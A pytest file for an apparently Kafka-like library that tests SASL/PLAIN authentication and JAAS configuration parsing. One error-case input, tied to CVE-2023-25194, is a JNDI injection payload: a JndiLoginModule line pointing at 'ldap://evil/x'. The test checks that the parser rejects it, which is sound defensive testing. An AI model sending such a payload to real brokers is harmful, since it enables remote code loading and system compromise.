"""SASL/PLAIN (RFC 4616) and the JAAS line: parsed as data, nothing loaded."""
import pytest

from kafkalab.common.config import ConfigException
from kafkalab.security.errors import SaslAuthenticationException
from kafkalab.security.jaas import jaas_line, parse_jaas_config
from kafkalab.security.plain import PlainSaslServer, plain_client_token

USERS = {"alice": "alice-secret"}


def test_plain_success():
    server = PlainSaslServer(USERS.get)
    assert server.evaluate_response(plain_client_token("alice", "alice-secret")) == b""
    assert server.complete and server.authorization_id == "alice"


@pytest.mark.parametrize("token,message", [
    (b"\0alice\0wrong", "Authentication failed: Invalid username or password"),
    (b"\0bob\0alice-secret", "Authentication failed: Invalid username or password"),
    (b"alice\0alice-secret", "Invalid SASL/PLAIN response: expected 3 tokens, got 2"),
    (b"\0alice\0pw\0x", "Invalid SASL/PLAIN response: expected 3 tokens, got 4"),
    (b"\0\0pw", "Authentication failed: username not specified"),
    (b"\0alice\0", "Authentication failed: password not specified"),
    (b"bob\0alice\0alice-secret", "Client requested an authorization id that is different from username"),
    (b"\0\xff\0x", "not UTF-8"),
])
def test_plain_failures(token, message):
    server = PlainSaslServer(USERS.get)
    with pytest.raises(SaslAuthenticationException, match=message):
        server.evaluate_response(token)
    assert not server.complete


def test_plain_authzid_equal_to_user_is_fine():
    assert PlainSaslServer(USERS.get).evaluate_response(b"alice\0alice\0alice-secret") == b""


def test_jaas_kafka_syntax_with_comments_and_quotes():
    entry = parse_jaas_config('''org.apache.kafka.common.security.plain.PlainLoginModule required
        // the broker's own login
        username="admin" /* inline */ password="a \\"quoted\\" secret"
        user_admin="admin-secret" user_alice='alice-secret';''')
    assert entry.control_flag == "REQUIRED" and entry.options["username"] == "admin"
    assert entry.options["password"] == 'a "quoted" secret'
    assert entry.users() == {"admin": "admin-secret", "alice": "alice-secret"}
    assert "secret" not in repr(entry)


def test_jaas_line_round_trip():
    entry = parse_jaas_config(jaas_line("SCRAM-SHA-512", "a\\b", 'p"w'), mechanism="SCRAM-SHA-512")
    assert entry.options == {"username": "a\\b", "password": 'p"w'}


@pytest.mark.parametrize("text,message", [
    ("", "Login module not specified in JAAS config"),
    ("org.apache.kafka.common.security.plain.PlainLoginModule", "control flag not specified"),
    ("org.apache.kafka.common.security.plain.PlainLoginModule sometimes;", "Invalid login module control flag "
                                                                           "'sometimes'"),
    ("org.apache.kafka.common.security.plain.PlainLoginModule required username;", "Value not specified for key "
                                                                                   "'username'"),
    ("org.apache.kafka.common.security.plain.PlainLoginModule required password=123;", "Value not specified"),
    ('org.apache.kafka.common.security.plain.PlainLoginModule required username="a"', "not terminated by semi"),
    ("org.apache.kafka.common.security.plain.PlainLoginModule required; "
     "org.apache.kafka.common.security.plain.PlainLoginModule required;", "contains 2 login modules"),
    # CVE-2023-25194: a class named in configuration is never loaded
    ('com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";', "is not one "
                                                                                                "kafkalab knows"),
])
def test_jaas_errors(text, message):
    with pytest.raises(ConfigException, match=message):
        parse_jaas_config(text)


def test_jaas_module_must_serve_the_mechanism():
    with pytest.raises(ConfigException, match="does not serve SASL mechanism SCRAM-SHA-256"):
        parse_jaas_config(jaas_line("PLAIN", "a", "b"), mechanism="SCRAM-SHA-256")
